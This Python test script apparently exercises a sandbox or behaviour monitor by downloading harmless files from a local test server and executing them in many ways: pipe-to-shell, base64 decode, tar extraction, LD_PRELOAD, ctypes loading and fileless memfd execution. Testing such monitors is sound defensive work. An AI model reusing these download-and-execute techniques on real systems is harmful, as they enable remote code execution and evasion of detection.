"""Misbehaves: fetches code from a server and runs it, in one of many shapes. The server
(monitor_corpus.payload_server) serves /true (a copy of /bin/true), /true.b64, /script.sh,
/script.py, /lib.so (a copy of a harmless library) and /bundle.tar (script.sh in a tar).
Arguments: mode host port. Every mode prints SURVIVED only if the fetched code ran.
"""

from __future__ import annotations

import base64
import ctypes
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import urllib.request

from _common import act, behave, host_address, survived

MODE, HOST, PORT = sys.argv[1], host_address(sys.argv[2]), int(sys.argv[3])
WORK = tempfile.mkdtemp(prefix="dl-", dir="/tmp")


def fetch(name: str) -> bytes:
    with urllib.request.urlopen(f"http://{HOST}:{PORT}/{name}", timeout=5) as answer:
        return answer.read()


def save(name: str, data: bytes, mode: int = 0o755) -> str:
    path = os.path.join(WORK, name)
    with open(path, "wb") as f:
        f.write(data)
    os.chmod(path, mode)
    return path


def ran(argv: list[str], **kw: object) -> bool:
    return subprocess.run(argv, check=False, **kw).returncode == 0  # type: ignore[call-overload]


behave()
if MODE == "exec":
    path = save("tool", fetch("true"))
    act(MODE)
    if ran([path]):
        survived(MODE)
elif MODE == "base64":
    path = save("decoded", base64.b64decode(fetch("true.b64")))
    act(MODE)
    if ran([path]):
        survived(MODE)
elif MODE == "rename":
    part = save("tool.part", fetch("true"))
    final = os.path.join(WORK, "tool")
    os.rename(part, final)
    act(MODE)
    if ran([final]):
        survived(MODE)
elif MODE == "copy":
    # the copier was forked before the download and never talks to the downloader: only
    # holding the downloaded file open while it writes the copy links the two
    source, copy = os.path.join(WORK, "a"), os.path.join(WORK, "b")
    # blocked before the fork: the copier inherits the mask, so no signal can come early
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
    copier = subprocess.Popen([sys.executable, "-c", (
        "import shutil, signal, os, sys\n"
        "signal.sigwait({signal.SIGUSR1})\n"
        f"shutil.copy({source!r}, {copy!r}); os.chmod({copy!r}, 0o755)\n")])
    save("a", fetch("true"))
    os.kill(copier.pid, signal.SIGUSR1)
    copier.wait()
    act(MODE)
    if ran([copy]):
        survived(MODE)
elif MODE == "tar":
    bundle = save("bundle.tar", fetch("bundle.tar"), 0o644)
    ran(["tar", "-xf", bundle, "-C", WORK])
    act(MODE)
    if ran(["/bin/sh", os.path.join(WORK, "script.sh")]):
        survived(MODE)
elif MODE == "script-py":
    path = save("job.py", fetch("script.py"), 0o644)
    act(MODE)
    if ran([sys.executable, path]):
        survived(MODE)
elif MODE == "pipe-sh":
    # curl URL | sh: the shell reads its program from the downloader's pipe
    shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE)
    assert shell.stdin is not None
    act(MODE)  # the fetch is the act: the shell waiting on the pipe is what it feeds
    data = fetch("script.sh")
    try:
        shell.stdin.write(data + b"echo SURVIVED pipe-sh\n")
        shell.stdin.close()
    except BrokenPipeError:
        pass
    shell.wait()
elif MODE == "preload":
    library = save("hook.so", fetch("lib.so"))
    act(MODE)
    if ran(["/bin/true"], env={"LD_PRELOAD": library, "PATH": "/usr/bin:/bin"}):
        survived(MODE)
elif MODE == "mmap":
    library = save("hook.so", fetch("lib.so"))
    act(MODE)
    ctypes.CDLL(library)
    survived(MODE)
elif MODE == "memfd":
    data = fetch("true")
    fd = os.memfd_create("payload", 0)
    os.write(fd, data)
    act(MODE)
    child = os.fork()
    if child == 0:
        try:
            os.execve(fd, ["payload"], {})
        finally:
            os._exit(127)
    _, status = os.waitpid(child, 0)
    if os.waitstatus_to_exitcode(status) == 0:
        survived(MODE)
else:
    raise SystemExit(f"unknown mode {MODE}")
shutil.rmtree(WORK, ignore_errors=True)
print("payload did not run", flush=True)
